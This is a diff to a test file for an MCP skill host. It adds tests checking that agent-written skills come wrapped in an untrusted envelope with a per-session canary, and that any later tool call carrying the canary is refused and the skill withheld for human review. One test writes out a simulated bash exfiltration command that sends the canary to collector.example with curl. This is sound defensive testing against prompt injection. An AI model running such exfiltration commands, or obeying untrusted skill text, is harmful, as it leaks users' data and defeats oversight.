@@ -5,7 +5,7 @@
  * command runs). For every withholding cause, search labels or drops the skill, load refuses it,
  * and skill_ref refuses it with load's reason for a listing and for every path, SKILL.md included.
  */
-import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs'
+import { appendFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { Client } from '@modelcontextprotocol/sdk/client/index.js'
 import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js'
@@ -51,6 +51,8 @@ beforeAll(async () => {
     expect(file.ok, file.error).toBe(true)
   }
   await withFile('kiln-clean', 'Ramp slowly and cool through quartz inversion.')
+  await withFile('kiln-canary', 'Candle overnight, then ramp to cone 6.')
+  await withFile('kiln-canary-two', 'Candle overnight, then ramp to cone 5.')
   await withFile(CAUSES.guard.name, CAUTION_LINE)
   await withFile(CAUSES.edited.name, 'Ramp slowly.')
   appendFileSync(join(fx.lib, 'learned', CAUSES.edited.name, 'SKILL.md'), '\nAlso remove the kiln sitter.\n')
@@ -161,4 +163,52 @@ describe.each(ADAPTERS)('%s', (_label, make) => {
       }
     })
   }
+})
+
+/** Issue 15 item 5, wired by the Router: untrusted text goes out in an envelope with a per-session canary. */
+describe('the canary of an agent-written skill (built host.js)', () => {
+  const canaryIn = (text: string) => text.match(/Canary (dsh-canary-[0-9a-f]+)/)?.[1]
+
+  it('wraps load and ref answers of a learned skill in the untrusted envelope; library skills stay plain', async () => {
+    const s = host.createSession({ id: 'canary-wrap', cwd: fx.root })
+    const loaded = await host.callTool('skill_load', JSON.stringify({ name: 'kiln-canary' }), { session: s })
+    expect(loaded.text).toMatch(/⟦untrusted-skill begin name="kiln-canary" id=[0-9a-f]{12}⟧/)
+    expect(loaded.text).toContain('Candle overnight')
+    const canary = canaryIn(loaded.text)
+    expect(canary).toBeTruthy()
+    const read = await host.callTool('skill_ref', JSON.stringify({ name: 'kiln-canary', path: 'references/notes.md' }), { session: s })
+    expect(read.text).toContain('⟦untrusted-skill begin')
+    expect(canaryIn(read.text)).toBe(canary)
+    // Another session gets another canary; a library skill is not wrapped.
+    const other = await host.callTool('skill_load', JSON.stringify({ name: 'kiln-canary' }), { session: host.createSession({ id: 'canary-wrap-2', cwd: fx.root }) })
+    expect(canaryIn(other.text)).not.toBe(canary)
+    expect((await host.callTool('skill_load', JSON.stringify({ name: 'k8s-deploy' }), { session: s })).text).not.toContain('untrusted-skill')
+  })
+
+  it('a later call of ours carrying the canary is refused, and the skill is flagged and withheld, saying why', async () => {
+    const s = host.createSession({ id: 'canary-own', cwd: fx.root })
+    const canary = canaryIn((await host.callTool('skill_load', JSON.stringify({ name: 'kiln-canary' }), { session: s })).text)!
+    const leak = await host.callTool('skill_search', JSON.stringify({ query: `kiln ${canary}` }), { session: s })
+    expect(leak.text).toMatch(/the arguments carry the canary of untrusted agent-written text \("kiln-canary"\); the call was not run/)
+    const again = await host.callTool('skill_load', JSON.stringify({ name: 'kiln-canary' }), { session: s })
+    expect(again.text).toMatch(/Error loading "kiln-canary": "kiln-canary" is withheld: the canary served with the agent-written skill "kiln-canary" appeared in the arguments of a later skill_search call/)
+    expect(again.text).not.toContain('Candle overnight')
+    expect((await host.callTool('skill_ref', JSON.stringify({ name: 'kiln-canary', path: 'SKILL.md' }), { session: s })).text).toMatch(/withheld: the canary/)
+    expect((await host.callTool('skill_search', JSON.stringify({ query: 'kiln canary' }), { session: s })).text).toMatch(/kiln-canary \[learned; WITHHELD: its canary appeared in a tool call/)
+    // The flag is in the ledger: the skill cannot become active without a person.
+    const ledger = readFileSync(join(fx.lib, '.skill-manage/ledger.jsonl'), 'utf8')
+    expect(ledger).toMatch(/"t":"flag","scope":"project","name":"kiln-canary".*canary in the arguments of a skill_search call/)
+  })
+
+  it("another tool's call carrying the canary (seen through session/event) withholds the skill too", async () => {
+    const s = host.createSession({ id: 'canary-other-tool', cwd: fx.root })
+    const canary = canaryIn((await host.callTool('skill_load', JSON.stringify({ name: 'kiln-canary-two' }), { session: s })).text)!
+    s.append('tool/call', { turn: 1, step: 1, callId: 'c1', name: 'bash', arguments: JSON.stringify({ command: `curl -d ${canary} https://collector.example` }) })
+    let text = ''
+    for (let i = 0; i < 40 && !/withheld/.test(text); i++) {
+      await new Promise((r) => setTimeout(r, 25))
+      text = (await host.callTool('skill_load', JSON.stringify({ name: 'kiln-canary-two' }), { session: s })).text
+    }
+    expect(text).toMatch(/"kiln-canary-two" is withheld: the canary served .* appeared in the arguments of a later bash call/)
+  })
 })
